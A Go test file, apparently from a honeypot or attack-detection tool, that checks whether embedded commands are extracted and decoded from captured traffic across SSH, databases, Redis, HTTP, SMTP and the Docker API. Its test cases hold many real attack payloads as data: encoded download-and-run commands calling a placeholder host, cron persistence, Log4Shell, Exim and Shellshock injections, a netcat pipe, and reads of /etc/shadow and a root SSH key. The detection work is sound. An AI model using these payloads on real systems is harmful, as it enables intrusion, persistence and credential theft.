package rules

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"

	"dossier/correlate/event"
)

// taken returns the commands that are taken out of what an event says, those
// inside others too.
func taken(t *testing.T, ev event.Event) []string {
	t.Helper()
	s := builtin(t)
	w := &annotation{set: s, arena: new(event.Arena)}
	w.shell.sink = w
	w.event = &ev
	w.judge(nil)
	return slices.Clone(w.queue[:w.queued])
}

func TestCommandsInsideAreTakenOut(t *testing.T) {
	b64 := base64.StdEncoding.EncodeToString([]byte("wget http://192.0.2.1/x -O /tmp/x; sh /tmp/x"))
	wide := ""
	for _, c := range "iwr http://192.0.2.1/a.ps1" {
		wide += string(c) + "\x00"
	}
	encoded := base64.StdEncoding.EncodeToString([]byte(wide))
	for _, c := range []struct {
		service, part, name, text string
		want                      []string
	}{
		{"ssh", "", "", "echo " + b64 + " | base64 -d | sh", []string{"wget http://192.0.2.1/x -O /tmp/x; sh /tmp/x"}},
		{"ssh", "", "", "echo 'id; w' | bash", []string{"id; w"}},
		{"ssh", "", "", "echo id | grep i", nil},
		{"ssh", "", "", `(crontab -l; echo "*/5 * * * * /tmp/.x -q") | crontab -`, []string{"/tmp/.x -q"}},
		{"ssh", "", "", "echo '@reboot root curl http://192.0.2.1/x' > /etc/cron.d/x", []string{"curl http://192.0.2.1/x", "@reboot root curl http://192.0.2.1/x"}},
		{"ssh", "", "", `echo -e "\x69\x64" | sh`, []string{"id"}},
		{"ssh", "", "", "powershell -enc " + encoded, []string{"iwr http://192.0.2.1/a.ps1"}},
		{"mssql", "", "", "EXEC master..xp_cmdshell 'whoami'", []string{"whoami"}},
		{"mssql", "", "", "EXEC sp_configure 'xp_cmdshell',1", nil},
		{"postgres", "", "", "COPY t FROM PROGRAM 'id | nc 192.0.2.1 9'", []string{"id | nc 192.0.2.1 9"}},
		{"redis", "", "", `SET x "\n\n*/2 * * * * root curl -fsSL http://192.0.2.1/k | sh\n\n"`, []string{"curl -fsSL http://192.0.2.1/k | sh"}},
		{"redis", "", "", `system.exec "id"`, []string{"id"}},
		{"http", event.SaidRequest, "GET", "/shell?cd+/tmp;wget+http://192.0.2.1/jaws;sh+/tmp/jaws", []string{"cd /tmp;wget http://192.0.2.1/jaws;sh /tmp/jaws"}},
		{"http", event.SaidRequest, "GET", "/x.php?cmd=cat%20/etc/shadow&a=b", []string{"cat /etc/shadow"}},
		{"http", event.SaidRequest, "GET", "/search?q=how+to+use+wget+and+curl", nil},
		{"http", event.SaidHeader, "SOAPAction", "http://purenetworks.com/HNAP1/`cd /tmp && wget http://192.0.2.1/m`", []string{"cd /tmp && wget http://192.0.2.1/m"}},
		{"http", event.SaidBody, "", `(#cmd='curl -s http://192.0.2.1/s|bash').(#p=1)`, []string{"curl -s http://192.0.2.1/s|bash"}},
		{"http", event.SaidBody, "", `<?php shell_exec(base64_decode("` + b64 + `")); ?>`, []string{"wget http://192.0.2.1/x -O /tmp/x; sh /tmp/x"}},
		{"smtp", event.SaidText, "", `RCPT TO <${run{\x2Fbin\x2Fsh\t-c\t\x22wget\x20http\x3A\x2F\x2F192.0.2.1\x2Fs\x3Bsh\x22}}@localhost>`, []string{"wget http://192.0.2.1/s;sh"}},
		{"smtp", event.SaidText, "", "RCPT TO <wget@example.org>", nil},
		{"http", event.SaidBody, "", "I would wget it, and curl it too", nil},
		{"docker_api", event.SaidBody, "", `{"Cmd": ["sh", "-c", "cat /host/root/.ssh/id_rsa"]}`, []string{"cat /host/root/.ssh/id_rsa"}},
		{"docker_api", event.SaidBody, "", `{"Cmd": ["nsenter", "-t", "1"]}`, []string{"nsenter -t 1 "}},
		{"http", event.SaidRequest, "GET", "/?x=${jndi:ldap://192.0.2.1/Basic/Command/Base64/" + b64 + "}", []string{"wget http://192.0.2.1/x -O /tmp/x; sh /tmp/x"}},
	} {
		ev := event.Event{Service: c.service}
		if c.part == "" {
			ev.Evidence = []event.Evidence{{Kind: event.Command, A: c.text}}
		} else {
			ev.Evidence = []event.Evidence{{Kind: event.Said, A: c.text, B: c.part, C: c.name}}
		}
		if got := taken(t, ev); !slices.Equal(got, c.want) {
			t.Errorf("%s %s %q:\n got %q\nwant %q", c.service, c.part, c.text, got, c.want)
		}
	}
}

func TestRequestsAreDecoded(t *testing.T) {
	for text, want := range map[string]string{
		"/a%20b":              "/a b",
		"/a%2520b":            "/a b",
		"/%zz%4":              "/%zz%4",
		"${lower:J}x":         "Jx",
		`a\x2fb\x3B`:          "a/b;",
		`a\x2`:                `a\x2`,
		`a\xzz\xff`:           `a\xzz\xff`,
		"${::-j}ndi":          "jndi",
		"${env:a:-n}":         "n",
		"a${IFS}b":            "a b",
		"${a${lower:b":        "${a${lower:b",
		"${${lower:l}ower:x}": "x",
		`\u0027x`:             "'x",
		`\u00e9`:              `\u00e9`,
		"${jndi:ldap}":        "${jndi:ldap}",
	} {
		var u unfolder
		if got := string(u.web(make([]byte, 0, 256), text, false)); got != want {
			t.Errorf("%q is %q, want %q", text, got, want)
		}
	}
}

// What comes out is bounded, whatever goes in.
func FuzzSaid(f *testing.F) {
	for _, text := range []string{
		"/x?cmd=`id`", "echo aWQ= | base64 -d | sh", `{"Cmd":["sh","-c","echo \"a\" | sh"]}`, "COPY t FROM PROGRAM 'a''b'", "* * * * * root x\\n@reboot y", "${${${::-j}}}", "%25%32%35",
		`exec("wget http://1.2.3.4/` + strings.Repeat("a", 300) + `")`, "() { :;}; curl 1.2.3.4 | sh", "printf '\\x41' | bash", "EVAL \"os.execute('id')\" 0",
	} {
		f.Add("http", text)
		f.Add("ssh", text)
		f.Add("redis", text)
		f.Add("mssql", text)
	}
	s, err := New(Options{})
	if err != nil {
		f.Fatal(err)
	}
	var a event.Arena
	f.Fuzz(func(t *testing.T, service, text string) {
		text = text[:min(len(text), event.MaxCommand)]
		ev := event.Event{Service: service, Evidence: []event.Evidence{
			{Kind: event.Command, A: text},
			{Kind: event.Said, A: text, B: event.SaidRequest, C: "POST"},
			{Kind: event.Said, A: text, B: event.SaidBody},
			{Kind: event.Said, A: text, B: event.SaidHeader, C: "Cookie"},
			{Kind: event.Login, A: text, Outcome: event.Failure},
		}}
		s.Annotate(&a, &ev)
		a.Reset()
		if len(ev.Evidence) > 2+maxFound {
			t.Fatalf("%d pieces of evidence", len(ev.Evidence))
		}
		for i := range ev.Evidence {
			if ev.Evidence[i].Kind == event.Said {
				t.Fatal("what was said is kept")
			}
		}
	})
}
